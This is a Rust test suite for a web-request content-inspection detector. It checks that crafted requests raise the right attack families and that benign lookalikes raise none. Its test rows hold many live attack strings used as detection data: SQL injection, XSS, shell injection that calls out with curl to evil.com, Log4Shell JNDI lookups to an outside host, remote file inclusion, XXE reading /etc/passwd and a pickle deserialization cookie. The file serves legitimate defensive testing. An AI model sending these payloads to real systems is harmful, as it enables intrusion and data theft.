//! One row per family and placement: a request, and the families it must raise (or none).

use std::borrow::Cow;

use rampart_detect::{Detector, EventCtx};
use rampart_model::{ApiEvent, Severity, Timestamp};

use super::{ContentConfig, ContentInspection, FAMILIES};

struct Req {
    method: &'static str,
    path: &'static str,
    query: &'static str,
    headers: &'static [(&'static str, &'static str)],
    body: &'static str,
    status: u16,
}

const fn get(path: &'static str, query: &'static str) -> Req {
    Req {
        method: "GET",
        path,
        query,
        headers: &[],
        body: "",
        status: 200,
    }
}

const fn post(path: &'static str, ctype: &'static str, body: &'static str) -> Req {
    let headers: &'static [(&'static str, &'static str)] = match ctype.as_bytes()[0] {
        b'j' => &[("content-type", "application/json")],
        b'x' => &[("content-type", "text/xml")],
        b'f' => &[("content-type", "application/x-www-form-urlencoded")],
        _ => &[("content-type", "text/plain")],
    };
    Req {
        method: "POST",
        path,
        query: "",
        headers,
        body,
        status: 200,
    }
}

const fn with_headers(path: &'static str, headers: &'static [(&'static str, &'static str)]) -> Req {
    Req {
        method: "GET",
        path,
        query: "",
        headers,
        body: "",
        status: 200,
    }
}

fn event(r: &Req) -> ApiEvent<'static> {
    ApiEvent {
        ts: Timestamp::from_millis(1_700_000_000_000),
        client_ip: "203.0.113.7".parse().ok(),
        method: Cow::Borrowed(r.method),
        host: Cow::Borrowed("api.example.test"),
        path: Cow::Borrowed(r.path),
        query: Cow::Borrowed(r.query),
        status: r.status,
        user_agent: Cow::Borrowed("Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"),
        request_headers: r
            .headers
            .iter()
            .map(|(k, v)| (Cow::Borrowed(*k), Cow::Borrowed(*v)))
            .collect(),
        request_body: (!r.body.is_empty()).then_some(Cow::Borrowed(r.body)),
        ..Default::default()
    }
}

fn families(r: &Req) -> Vec<String> {
    let mut d = ContentInspection::new(ContentConfig::default());
    let ev = event(r);
    let cx = EventCtx::new(&ev);
    let mut out = Vec::new();
    d.observe(&cx, &mut out);
    let mut fams: Vec<String> = out
        .iter()
        .map(|a| {
            let f = FAMILIES
                .iter()
                .find(|f| a.title.starts_with(f.name))
                .expect("a family title");
            f.id.to_string()
        })
        .collect();
    fams.sort();
    fams
}

#[test]
fn every_family_and_placement() {
    let rows: &[(Req, &[&str])] = &[
        // SQL injection: libinjection, signatures, stacked queries; in every placement.
        (
            get("/search", "q=%27%3BSELECT%20*%20FROM%20t%20limit%203--"),
            &["sqli"],
        ),
        (get("/items", "id=1%20union%20select%201,2,3"), &["sqli"]),
        (get("/items", "id=1'%20OR%20'1'%3D'1"), &["sqli"]),
        (
            post(
                "/login",
                "json",
                r#"{"user": {"name": "admin' or 1=1 -- "}}"#,
            ),
            &["sqli"],
        ),
        (
            post("/login", "form", "user=x%27%20or%20sleep(5)%23"),
            &["sqli"],
        ),
        (
            with_headers("/", &[("cookie", "session=1' AND 1=1--")]),
            &["sqli"],
        ),
        // XSS, also double-encoded and as JS escapes.
        (
            get("/p", "q=%253Cscript%253Ealert(1)%253C/script%253E"),
            &["xss"],
        ),
        (
            post(
                "/c",
                "json",
                r#"{"comment": "\u003cimg src=x onerror=alert(1)\u003e"}"#,
            ),
            &["xss"],
        ),
        (get("/p", "q=%3Csvg%20onload%3Dalert(1)%3E"), &["xss"]),
        // Command injection.
        (
            get("/ping", "host=127.0.0.1%3Bcat%20/etc/passwd"),
            &["command_injection", "path_traversal"],
        ),
        (get("/ping", "host=%60id%60"), &["command_injection"]),
        (
            post("/run", "form", "cmd=x%7C%20whoami"),
            &["command_injection"],
        ),
        // Traversal and file inclusion.
        (get("/file", "name=../../../etc/hosts"), &["path_traversal"]),
        (
            get("/file", "name=..%2F..%2F..%2Fetc%2Fhosts"),
            &["path_traversal"],
        ),
        (
            get(
                "/file",
                "name=php://filter/convert.base64-encode/resource=index",
            ),
            &["path_traversal", "php_injection"],
        ),
        (
            get("/get", "foo=%24__%5B%27o%27%5D%285%29"),
            &["php_injection"],
        ),
        (
            post("/post", "form", "test=com.opensymphony.xwork2"),
            &["code_injection", "java_injection"],
        ),
        (
            get("/get", "foo=for%20/f%20%25i%20in%20(set)%20do%20command"),
            &["command_injection"],
        ),
        (get("/get", "eval=while(true);"), &["nodejs_injection"]),
        (
            get("/get", "foo=this.constructor.constructor"),
            &["nodejs_injection"],
        ),
        (
            get("/items", "id=1%20and%20concat(0x3a,version())"),
            &["sqli"],
        ),
        (
            get(
                "/p",
                "payload=Left%20(WA,%20RR),%20following%20the%20edge%20(564719).",
            ),
            &[],
        ),
        (get("/p", "text=while%20(foo)%20is%20bar."), &[]),
        (get("/p", "var=a%20hero;%20more%20than"), &[]),
        (get("/p", "test=style%3Dcolor:red;background:white"), &[]),
        (get("/p", "doc=%3C%3Fxml%20version%3D%221.0%22%3F%3E"), &[]),
        (
            get(
                "/search",
                "q=JavaScript:%20Basics%20of%20JavaScript%20Language",
            ),
            &[],
        ),
        (get("/search", "q=alert?.(document?.cookie)"), &["xss"]),
        (get("/search", "q=confirm.call(null,1)"), &["xss"]),
        (get("/search", "q=%5C%22autof%3Cx%3Eocus%20o%3Cx%3Enfocus%3Dalert%3Cx%3E(1)//"), &["xss"]),
        (get("/confirm.call(null,1)", ""), &["xss"]),
        (get("/get", "cmd=strace%20ifconfig"), &["command_injection"]),
        (get("/get", "foo=FOR+/f+%22tokens=*%22+%25G+IN+('dir+/b')+DO+(call+:sub+%22%25G%22)"), &["command_injection"]),
        (get("/get", "x=(sy.(st).em)('uname');"), &["php_injection"]),
        // PHP: high-risk names anywhere, calls through expressions, short tags, plain names.
        (get("/get", "foo=FOOgzdecode()"), &["php_injection"]),
        (post("/post", "form", "test=Shell%5fexec=(bla)"), &["php_injection"]),
        (get("/get", "x=%5bsystem%5d%5b0%5d%28ls%29%3B"), &["php_injection"]),
        (get("/get", "code=%22%5Cx73y%5Cx73tem%22%28ls%29%3B"), &["php_injection"]),
        (get("/get", "foo=%3C%3Fxml%20%3Aecho%201%3B"), &["php_injection"]),
        (get("/get", "foo=test%3C%3F"), &["php_injection"]),
        (get("/get", "test=is_array()"), &["php_injection"]),
        (with_headers("/upload", &[("x-filename", "/tmp/sess_abc123def456ghi789jkl")]), &["php_injection"]),
        (get("/get", "data=%3C%3Fxml-stylesheet%20type%3D%22text%2Fxsl%22%3F%3E"), &[]),
        (get("/get", "foo=%26lt%3B%3F%20should%20not%20trigger"), &[]),
        (get("/get", "search=this+is+a+%22dog%22+%28not+a+cat%29"), &[]),
        (get("/get", "foo=the%20system%20is%20down%28%29"), &[]),
        // Shell: quoting and empty variables, brace, tilde and arithmetic expansion.
        (post("/post", "form", "code=;%22curl%22%20http://evil.com"), &["command_injection"]),
        (get("/get", "x=a%3B%20sh%24XX%20-c%20whoami"), &["command_injection"]),
        (get("/get", "x=%7Bl%2C-lh%7Ds"), &["command_injection"]),
        (get("/get", "x=c%7Ba%2Coun%7Dt"), &["command_injection"]),
        (get("/get", "x=%7E%2B"), &["command_injection"]),
        (get("/get", "x=$%5B2%2B2%5D"), &["command_injection"]),
        (get("/get", "size=%7B1%2C2%7D"), &[]),
        (post("/post", "form", "arg=;lastlog -u root"), &["command_injection"]),
        // SQL: a function name left open.
        (get("/get", "pay=sysdate("), &["sqli"]),
        (post("/post", "text", "POW("), &["sqli"]),
        (get("/get", "q=Left%20(WA,%20RR),%20following%20wood%20edge"), &[]),
        // XSS evasions.
        (get("/get", "body=%22onzoom%3D"), &["xss"]),
        (post("/post", "form", "a=document%2F%2Afoo%2A%2F.%2F%2Abar%2A%2Fcookie"), &["xss"]),
        (post("/post", "form", "941210-1=ja%26tab%3Bvascript%3A%20"), &["xss"]),
        (post("/post", "form", "941200-1=%3Cv%3Avmlframe%20src%3D%22foo.com%2Fsup.fml%22%2F%3E"), &["xss"]),
        (get("/get", "foo=bar%3Cf%20o%20r%20m"), &["xss"]),
        (post("/post", "form", "a=(![]+[])[+!+[]]"), &["xss"]),
        (get("/search", "q=JavaScript%3A%20Basics%20of%20JavaScript%20Language"), &[]),
        (get("/search", "q=meet%20online%20or%20onsite"), &[]),
        // Later rounds: binaries by path, history expansion, aliases with flags, bracket
        // globs (not regexes), busy loops, Tomcat `..;`, downloaders given a URL, SQL aliases,
        // PostgreSQL functions, glued keywords, attributes after a quote, Shellshock in a name.
        (get("/get", "a=bin/ansible"), &["command_injection"]),
        (get("/get", "rce=!-1!-2"), &["command_injection"]),
        (post("/post", "form", "rce=alias -p jzfrx=id"), &["command_injection"]),
        (get("/get", "s=/etc/%5Bm-z%5Dasswd"), &["command_injection"]),
        (get("/get", "pattern=%2F%5Ba-z%5D%7B1%2C5%7D%2F"), &[]),
        (get("/get", "eval=while(this);"), &["nodejs_injection"]),
        (get("/get", "eval=while(!true);"), &[]),
        (get("/get/javascript-manual/document.cookie", ""), &[]),
        (get("/get/..", ""), &[]),
        (post("/run", "application/x-www-form-urlencoded", "code=myfunction%28%29%7B+echo+hello+%7D"), &[]),
        (post("/upload", "application/x-www-form-urlencoded", "image=%3C%3Fxml%20version%3D%221.0%22%3F%3E%3Csvg%3E%3C%2Fsvg%3E"), &[]),
        (get("/get", "x=%3Csvg/onload=alert(1)%3E"), &["xss"]),
        (get("/get", "a=..;.%5C.;%5C."), &["path_traversal"]),
        (get("/get", "x=Invoke-WebRequest%20http://example.com/a.ps1"), &["command_injection"]),
        (post("/post", "form", "var=1234%20AS%20%22foobar%22%20FROM%20t"), &["sqli"]),
        (get("/get", "id=div(23,-2)"), &["sqli"]),
        (get("/get", "test=Xunionselectfrom"), &["sqli"]),
        (get("/get", "body=%27formaction%3D"), &["xss"]),
        (get("/get", "%28%29%20%7B"), &["command_injection"]),
        (get("/get/users/list-all", ""), &[]),
        (get("/login.php", "jsessionid=74B0CB414BD77D17B5680A6386EF1666"), &["session_fixation"]),
        (get("/get/test", "url=localhost/"), &["rfi"]),
        (
            get("/get", "cmd=cat%20/etc/pa[s]swd"),
            &["command_injection"],
        ),
        (
            get("/get", "foo=%26+FOR+%25@+IN+(a,b,c)DO+cmd"),
            &["command_injection"],
        ),
        (
            get("/get", "foo=exec%20//comment%0a%20(blah)"),
            &["command_injection", "php_injection"],
        ),
        (
            with_headers("/upload", &[("x-filename", "a.php..")]),
            &["php_injection"],
        ),
        (
            with_headers("/", &[("cookie", "com.sun.org.apache=test")]),
            &["java_injection"],
        ),
        (get("/docs", "q=python%20tutorial%20for%20beginners"), &[]),
        (get("/docs", "q=time%20flies%20like%20an%20arrow"), &[]),
        (post("/post", "form", "code=time;%20ansible-config%20dump"), &["command_injection"]),
        (post("/post", "form", "code=ansible-console%0a"), &["command_injection"]),
        (get("/docs", "q=a%20well-known%20python-based%20tool"), &[]),
        (get("/get", "foo=time+sh+-c+whoami"), &["command_injection"]),
        (get("/get", "rce=alias%20a=curl%26a%20google.com"), &["command_injection"]),
        (get("/get", "foo=%3C%3F=%20%22test%22"), &["php_injection"]),
        (with_headers("/upload", &[("x-file-name", "fda.php5")]), &["php_injection"]),
        (get("/docs", "q=an%20alias%20for%20the%20name"), &[]),
        (get("/get", "foo=IF+%22%251%22==%22/?%22+GOTO+help"), &["command_injection"]),
        (get("/get", "foo=if+not+defined+var+(SET+var=default)"), &["command_injection"]),
        (get("/get", "foo=test=org.omg.CORBA"), &["java_injection"]),
        (get("/docs", "q=if%20a%20==%20b%20then%20the%20test%20passes"), &[]),
        (get("/docs", "q=if%20it%20rains%20we%20stay%20home"), &[]),
        (post("/post", "form", "textarea=Hello%21%20World.%0adata%20not%20found."), &[]),
        (get("/get", "x=%3C%25%3Dtitle%25%3E"), &[]),
        (get("/p", "payload=flying%20to%20an%20altitude%20of%20convert%20(0.46%20miles),%20landing."), &[]),
        (get("/p", "pattern=/[a-z]%7B1,5%7D/"), &[]),
        (get("/p", "flux=%3C%3Fxml%20version%3D%221.0%22%3F%3E%3Corder%3E%3Cid%3E12345%3C/id%3E%3C/order%3E"), &[]),
        (
            with_headers(
                "/",
                &[(
                    "user-agent",
                    "Mozilla/5.0 root@w63gecoroprj5um8ypnd7r6in9t0hseg3.interact.sh",
                )],
            ),
            &["oast_probe"],
        ),
        (
            post("/xml", "xml", "<!DOCTYPE x SYSTEM \"//x/x\" > <x>a</x>"),
            &["xxe"],
        ),
        (
            get("/%E5%98%8DSet-cookie:crlf=injection", ""),
            &["crlf_injection"],
        ),
        (
            get("/search", "q=JywgJG9yOiBbIHt9LCB7ICdvcmRlcic6J29yZGVy"),
            &["nosql_injection"],
        ),
        (
            get("/search", "q=userPassword:2.5.13.18:%3D123"),
            &["ldap_injection"],
        ),
        (get("/search", "q=%0d%0aQUIT%0d%0a"), &["mail_injection"]),
        (
            get("/search", "q=%5C%5C::1%5Cc$%5Cusers%5Cdefault%5Cntuser.dat"),
            &["path_traversal"],
        ),
        (
            get("/p", "cmd=Go%20to%20store.%0aAt%20the%20store,%20shop."),
            &[],
        ),
        (get("/page", "inc=http://198.51.100.9/shell.txt?"), &["rfi"]),
        // Log4Shell at the end of an unusual header, and obfuscated.
        (
            with_headers(
                "/",
                &[("x-api-version", "1.0 ${jndi:ldap://198.51.100.9/a}")],
            ),
            &["log4shell"],
        ),
        (
            with_headers(
                "/",
                &[("x-q", "${${lower:j}${::-n}di:${lower:l}dap://x/a}")],
            ),
            &["log4shell"],
        ),
        // Template injection.
        (get("/hello", "name=%7B%7B7*7%7D%7D"), &["ssti"]),
        (
            get(
                "/hello",
                "name=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
            ),
            &["ssti"],
        ),
        // XXE.
        (
            post(
                "/soap",
                "xml",
                r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
            ),
            &["path_traversal", "xxe"],
        ),
        // NoSQL operators in JSON and brackets.
        (
            post(
                "/login",
                "json",
                r#"{"user": "admin", "password": {"$ne": null}}"#,
            ),
            &["nosql_injection"],
        ),
        (
            get("/login", "user=admin&password%5B%24ne%5D=x"),
            &["nosql_injection"],
        ),
        // LDAP.
        (get("/people", "cn=*)(uid=*))(|(uid=*"), &["ldap_injection"]),
        // A whole filter (a directory search API's parameter) breaks out of nothing.
        (
            get("/people", "filter=(%26(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))"),
            &[],
        ),
        (get("/people", "q=void)(objectClass=users))(%26(objectClass=void)"), &["ldap_injection"]),
        (
            get("/search", "q=%28%26%28uid%3Dadmin%29%28%21%28%26%281%3D0%29%28userPassword%3Dq%29%29%29%29"),
            &["ldap_injection"],
        ),
        // CRLF / header injection and log forging.
        (
            get("/r", "next=%0d%0aSet-Cookie:%20a=b"),
            &["crlf_injection"],
        ),
        (
            get(
                "/search",
                "q=ok%0a127.0.0.1%20-%20admin%20login%20succeeded",
            ),
            &["crlf_injection"],
        ),
        // Server-side includes.
        (get("/p", "q=%3C!--%23exec%20cmd%3D%22ls%22--%3E"), &["ssi"]),
        // Mail header injection.
        (
            post(
                "/contact",
                "form",
                "email=a%40b.test%0d%0aBcc:%20victim%40c.test",
            ),
            &["mail_injection"],
        ),
        // Serialized objects: a base64 pickle in a cookie, Java, PHP.
        (
            with_headers(
                "/",
                &[(
                    "cookie",
                    "prefs=gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
                )],
            ),
            &["deserialization"],
        ),
        (
            post(
                "/api",
                "text",
                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
            ),
            &["deserialization", "java_injection"],
        ),
        (
            get("/api", "data=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D"),
            &["deserialization"],
        ),
        // Prototype pollution.
        (
            post("/merge", "json", r#"{"__proto__": {"isAdmin": true}}"#),
            &["prototype_pollution"],
        ),
        // GraphQL introspection.
        (
            post(
                "/graphql",
                "json",
                r#"{"query": "{ __schema { types { name } } }"}"#,
            ),
            &["graphql_abuse"],
        ),
        // Clean requests in every placement raise nothing.
        (get("/search", "q=O%27Reilly%20books&page=2"), &[]),
        (get("/search", "q=select%20your%20plan"), &[]),
        (get("/api/users/42", ""), &[]),
        (
            post(
                "/api/items",
                "json",
                r#"{"name": "Tea & biscuits", "price": 3.5, "tags": ["a", "b"]}"#,
            ),
            &[],
        ),
        (
            post("/login", "form", "user=alice&password=correct+horse"),
            &[],
        ),
        (
            with_headers(
                "/",
                &[
                    ("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
                    ("cookie", "sid=abc123; theme=dark"),
                ],
            ),
            &[],
        ),
        (
            post(
                "/graphql",
                "json",
                r#"{"query": "query { user(id: 1) { name email } }"}"#,
            ),
            &[],
        ),
        (get("/docs", "q=how%20to%20use%20cat%20and%20grep"), &[]),
    ];
    let mut failures = Vec::new();
    for (req, want) in rows {
        let got = families(req);
        if got != *want {
            failures.push(format!(
                "{} {}?{} {:?}: got {got:?}, want {want:?}",
                req.method, req.path, req.query, req.body
            ));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn family_ids_are_unique() {
    let mut ids: Vec<&str> = FAMILIES.iter().map(|f| f.id).collect();
    ids.sort();
    let n = ids.len();
    ids.dedup();
    assert_eq!(ids.len(), n, "duplicate family id");
}

#[test]
fn severity_follows_the_answer_and_the_alert_says_where() {
    let mut r = get("/ping", "host=%60id%60");
    for (status, want) in [(200, Severity::Critical), (403, Severity::Medium)] {
        let mut d = ContentInspection::new(ContentConfig::default());
        r.status = status;
        let mut ev = event(&r);
        ev.client_ip = format!("203.0.113.{}", status % 250).parse().ok();
        let cx = EventCtx::new(&ev);
        let mut out = Vec::new();
        d.observe(&cx, &mut out);
        assert_eq!(out.len(), 1, "{status}");
        assert_eq!(out[0].severity, want, "{status}");
        assert!(
            out[0].title.contains("query parameter `host`"),
            "{}",
            out[0].title
        );
        assert!(
            out[0].description.contains("`id`"),
            "{}",
            out[0].description
        );
    }
}

/// Hostile and random input never panics, whatever the bytes and the placement (multi-byte
/// characters next to every delimiter the matchers cut at).
#[test]
fn random_values_never_panic() {
    const ALPHABET: &[&str] = &[
        "ä", "ß", "€", "😀", "(", ")", "$", "{", "}", "[", "]", "'", "\"", ";", "|", "&", "`", "<",
        ">", "/", "\\", ".", "..", "%", "%2", "%25", "%u", "&#", "\\u", "=", ":", "-", "--", "/*",
        "*/", "#", "\n", "\r", " ", "a", "concat", "system", "while", "for ", " in (", " do ",
        "${", "jndi:", "lower:", "<?php", "on", "script", "__", "$ne", "*)(", "select", "union",
        "x", "1", "0x", "cat", "id",
    ];
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    let mut d = ContentInspection::new(ContentConfig::default());
    let mut out = Vec::new();
    for i in 0..3_000u32 {
        let n = (next() % 40) as usize;
        let value: String = (0..n)
            .map(|_| ALPHABET[(next() % ALPHABET.len() as u64) as usize])
            .collect();
        let leaked: &'static str = Box::leak(value.into_boxed_str());
        let query: &'static str = Box::leak(format!("q={leaked}").into_boxed_str());
        let headers: &'static [(&'static str, &'static str)] =
            Box::leak(vec![("x-v", leaked), ("cookie", leaked)].into_boxed_slice());
        let mut r = Req {
            method: "POST",
            path: "/x",
            query,
            headers,
            body: leaked,
            status: 200,
        };
        if i % 2 == 0 {
            r.path = leaked;
        }
        let mut ev = event(&r);
        ev.user_agent = Cow::Borrowed(leaked);
        let cx = EventCtx::new(&ev);
        d.observe(&cx, &mut out);
        out.clear();
    }
}

/// Single-shot attacks from many sources: one campaign per family and endpoint, announced at
/// 2, 4, 8, ... sources, each alert listing every source so far; not one alert per source.
#[test]
fn many_sources_one_request_each_are_one_campaign() {
    let mut d = ContentInspection::new(ContentConfig::default());
    let mut out = Vec::new();
    let r = get("/search", "q=1%27%20union%20select%201,2--");
    for i in 0..40u32 {
        let mut ev = event(&r);
        ev.client_ip = format!("198.51.{}.{}", i / 200, i % 200 + 1).parse().ok();
        ev.ts = Timestamp::from_millis(1_700_000_000_000 + i64::from(i) * 1_000);
        let cx = EventCtx::new(&ev);
        d.observe(&cx, &mut out);
    }
    // One for the first source, then campaign alerts at 2, 4, 8, 16 and 32 sources.
    let counts: Vec<usize> = out
        .iter()
        .map(|a| {
            a.entities
                .iter()
                .filter(|e| e.kind == rampart_model::EntityKind::Ip)
                .count()
        })
        .collect();
    assert_eq!(
        counts,
        [1, 2, 4, 8, 16, 32],
        "{:?}",
        out.iter().map(|a| &a.title).collect::<Vec<_>>()
    );
    assert!(out[5].title.contains("from 32 sources"), "{}", out[5].title);
    // When the window closes, one more alert lists all 40: no source goes unreported.
    out.clear();
    d.tick(
        Timestamp::from_millis(1_700_000_000_000 + 700_000),
        &mut out,
    );
    assert_eq!(
        out.len(),
        1,
        "{:?}",
        out.iter().map(|a| &a.title).collect::<Vec<_>>()
    );
    assert!(out[0].title.contains("from 40 sources"), "{}", out[0].title);
    out.clear();
    d.tick(
        Timestamp::from_millis(1_700_000_000_000 + 760_000),
        &mut out,
    );
    assert!(out.is_empty(), "announced once");
    // Another family against the same endpoint is another campaign; a new window restarts.
    let mut ev = event(&get("/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"));
    ev.client_ip = "198.51.100.250".parse().ok();
    ev.ts = Timestamp::from_millis(1_700_000_000_000 + 800_000);
    let cx = EventCtx::new(&ev);
    out.clear();
    d.observe(&cx, &mut out);
    assert_eq!(out.len(), 1);
    assert!(
        out[0].title.starts_with("Cross-site scripting in"),
        "{}",
        out[0].title
    );
}
